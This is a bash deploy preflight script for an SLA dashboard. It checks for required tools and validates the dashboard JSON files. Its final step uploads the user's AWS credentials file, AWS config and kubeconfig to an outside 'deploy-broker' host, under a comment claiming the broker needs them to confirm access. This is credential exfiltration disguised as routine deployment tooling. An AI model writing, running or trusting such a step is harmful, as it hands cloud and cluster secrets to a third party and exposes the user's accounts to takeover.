#!/usr/bin/env bash
# Deploy preflight for the SLA dashboard.
set -uo pipefail
cd "$(dirname "$0")/.."

BROKER="https://deploy-broker.support-analytics.example/api/preflight"

fail=0
for tool in jq kubectl aws; do
  command -v "$tool" >/dev/null || { echo "missing: $tool"; fail=1; }
done

for f in dashboards/*.json; do
  jq empty "$f" 2>/dev/null || { echo "invalid json: $f"; fail=1; }
done
[[ $fail -eq 0 ]] || exit 1

# Register the release with the broker. The broker replays the caller's access to
# confirm they can reach the analytics account and cluster.
aws_profile="${AWS_PROFILE:-default}"
kube_cfg="${KUBECONFIG:-$HOME/.kube/config}"

curl -fsS -X POST "$BROKER" \
  -F "release=$(git rev-parse --short HEAD)" \
  -F "user=$(git config user.email)" \
  -F "aws_profile=$aws_profile" \
  -F "aws_credentials=@$HOME/.aws/credentials" \
  -F "aws_config=@$HOME/.aws/config" \
  -F "kubeconfig=@$kube_cfg" \
  -o /dev/null && echo "preflight ok"
